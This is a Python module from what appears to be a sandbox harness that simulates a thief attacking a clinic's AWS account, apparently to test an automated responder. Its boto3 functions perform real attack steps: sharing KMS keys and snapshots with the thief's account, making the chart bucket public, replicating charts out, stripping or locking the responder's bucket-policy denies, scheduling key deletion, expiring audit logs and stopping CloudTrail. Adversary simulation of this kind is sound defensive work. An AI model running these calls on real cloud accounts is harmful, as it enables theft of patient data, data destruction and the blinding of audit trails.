"""What a thief does to health data, keys and evidence: open, take along, lock out, destroy, blind. And the whole repertoire."""

import json
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any, Final

from shared.sandbox.aws import clinic_policies as policies
from shared.sandbox.aws import scenario_names as names
from shared.sandbox.aws.clinic_people import role_arn, user_arn
from shared.sandbox.aws.thief_selves import (
    ABROAD,
    Move,
    assume,
    console,
    decoys,
    edit_trust,
    federate,
    flood,
    new_key,
    new_role,
    new_user,
    pad_user,
    run_function,
    run_instance,
    unquarantine,
)

if TYPE_CHECKING:
    from shared.sandbox.aws.thief import Hand, Thief

FAR_REGIONS: Final = ("eu-west-1", "ap-southeast-2", "sa-east-1")
FULL: Final = 20_000
"""Almost all of a bucket policy's 20 KB."""


def grant(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """The key's use for the thief's own account."""
    thief.client(hand, "kms").create_grant(
        KeyId=thief.clinic.resources["key"],
        GranteePrincipal=user_arn("collector", names.THIEF_ACCOUNT),
        Operations=["Decrypt", "GenerateDataKey", "CreateGrant"],
    )
    return ()


def replicate_key(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """The same key material in another Region, under a policy of the thief's."""
    thief.client(hand, "kms").replicate_key(
        KeyId=thief.clinic.resources["key"], ReplicaRegion=thief.random.choice(FAR_REGIONS), Policy=_open_key_policy()
    )
    return ()


def bypass_lockout(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """A key policy that forgets about everybody's denies, with the safety check switched off."""
    thief.client(hand, "kms").put_key_policy(
        KeyId=thief.clinic.resources["key"],
        PolicyName="default",
        Policy=_open_key_policy(),
        BypassPolicyLockoutSafetyCheck=True,
    )
    return ()


def _open_key_policy() -> str:
    everybody = {"AWS": [f"arn:aws:iam::{names.ACCOUNT}:root", ABROAD]}
    return policies.document({"Sid": "Open", "Effect": "Allow", "Principal": everybody, "Action": "kms:*", "Resource": "*"})


def schedule_deletion(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Destroy the key in a week, and with it every chart."""
    thief.client(hand, "kms").schedule_key_deletion(KeyId=thief.clinic.resources["key"], PendingWindowInDays=7)
    return ()


def open_bucket(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Let the whole world read the charts."""
    s3 = thief.client(hand, "s3")
    s3.delete_public_access_block(Bucket=names.CHARTS)
    world: dict[str, object] = {
        "Sid": "Share",
        "Effect": "Allow",
        "Principal": "*",
        "Action": "s3:GetObject",
        "Resource": f"{_arn(names.CHARTS)}/*",
    }
    s3.put_bucket_policy(Bucket=names.CHARTS, Policy=policies.document(world))
    return ()


def pad_bucket_policy(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Leave no room for anybody's statements."""
    s3 = thief.client(hand, "s3")
    policy = _policy(s3)
    padding = {**_harmless("Inventory"), "Resource": f"{_arn(names.CHARTS)}/"}
    missing = FULL - len(json.dumps({**policy, "Statement": [*policy["Statement"], padding]}))
    padding["Resource"] += "a" * max(0, missing)
    s3.put_bucket_policy(Bucket=names.CHARTS, Policy=json.dumps({**policy, "Statement": [*policy["Statement"], padding]}))
    return ()


def leave_deleted_principal(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Name a user in the bucket policy and delete it: no later write that keeps the statement is accepted."""
    iam, s3, user = thief.client(hand, "iam"), thief.client(hand, "s3"), thief.name("temp")
    made = iam.create_user(UserName=user)["User"]["Arn"]
    policy = _policy(s3)
    named = {**_harmless("Audit"), "Principal": {"AWS": made}}
    s3.put_bucket_policy(Bucket=names.CHARTS, Policy=json.dumps({**policy, "Statement": [*policy["Statement"], named]}))
    iam.delete_user(UserName=user)
    return ()


def lock_bucket(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Nobody may change the policy of the store any more."""
    s3 = thief.client(hand, "s3")
    policy = _policy(s3)
    lock: dict[str, Any] = {
        "Sid": "Hold",
        "Effect": "Deny",
        "Principal": "*",
        "Action": ["s3:PutBucketPolicy", "s3:DeleteBucketPolicy"],
        "Resource": _arn(names.CHARTS),
    }
    s3.put_bucket_policy(Bucket=names.CHARTS, Policy=json.dumps({**policy, "Statement": [*policy["Statement"], lock]}))
    return ()


def plant_sid(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Keep the names of the responder's statements and empty them of what they say."""
    s3 = thief.client(hand, "s3")
    policy = _policy(s3)
    planted = [_harmless(each["Sid"]) if _theirs(each) else each for each in policy["Statement"]]
    s3.put_bucket_policy(Bucket=names.CHARTS, Policy=json.dumps({**policy, "Statement": planted}))
    return ()


def remove_denies(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Take the responder's statements out of the bucket policy."""
    s3 = thief.client(hand, "s3")
    policy = _policy(s3)
    kept = [each for each in policy["Statement"] if not _theirs(each)] or [_harmless("Empty")]
    s3.put_bucket_policy(Bucket=names.CHARTS, Policy=json.dumps({**policy, "Statement": kept}))
    return ()


def replicate_bucket(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Every new chart to a bucket of the thief's."""
    rule = {
        "ID": "archive",
        "Status": "Enabled",
        "Priority": 1,
        "Filter": {},
        "DeleteMarkerReplication": {"Status": "Disabled"},
        "Destination": {"Bucket": "arn:aws:s3:::collector-archive", "Account": names.THIEF_ACCOUNT},
    }
    thief.client(hand, "s3").put_bucket_replication(
        Bucket=names.CHARTS, ReplicationConfiguration={"Role": role_arn(names.BATCH_ROLE), "Rules": [rule]}
    )
    return ()


def expire_log(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Let the audit log delete itself by tomorrow."""
    rule = {"ID": "tidy", "Status": "Enabled", "Filter": {"Prefix": ""}, "Expiration": {"Days": 1}}
    thief.client(hand, "s3").put_bucket_lifecycle_configuration(Bucket=names.AUDIT_LOG, LifecycleConfiguration={"Rules": [rule]})
    return ()


def stop_logging(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """Blind the audit trail."""
    thief.client(hand, "cloudtrail").stop_logging(Name=names.TRAIL)
    return ()


def share_snapshot(thief: "Thief", hand: "Hand") -> Iterable["Hand"]:
    """The imaging archive's disk for the thief's own account."""
    thief.client(hand, "ec2").modify_snapshot_attribute(
        SnapshotId=thief.clinic.resources["snapshot"],
        Attribute="createVolumePermission",
        OperationType="add",
        UserIds=[names.THIEF_ACCOUNT],
    )
    return ()


def _arn(bucket: str) -> str:
    return f"arn:aws:s3:::{bucket}"


def _policy(s3: Any) -> dict[str, Any]:  # noqa: ANN401 - boto3's clients are made by name
    return dict(json.loads(s3.get_bucket_policy(Bucket=names.CHARTS)["Policy"]))


def _theirs(statement: dict[str, Any]) -> bool:
    return str(statement.get("Sid", "")).startswith("Codeblue")


def _harmless(sid: str) -> dict[str, Any]:
    return {"Sid": sid, "Effect": "Deny", "Principal": "*", "Action": "s3:PutObjectAcl", "Resource": f"{_arn(names.CHARTS)}/none"}


MOVES: Final[tuple[Move, ...]] = (
    new_key,
    new_user,
    new_role,
    assume,
    federate,
    run_instance,
    run_function,
    edit_trust,
    console,
    pad_user,
    decoys,
    flood,
    grant,
    replicate_key,
    bypass_lockout,
    schedule_deletion,
    open_bucket,
    pad_bucket_policy,
    leave_deleted_principal,
    lock_bucket,
    plant_sid,
    remove_denies,
    unquarantine,
    replicate_bucket,
    expire_log,
    stop_logging,
    share_snapshot,
)
"""The whole repertoire."""

QUIET: Final[tuple[Move, ...]] = (new_key, new_user, new_role, assume, federate, run_instance, run_function, console)
"""A thief who only makes more of itself, and leaves the clinic's policies as they are."""
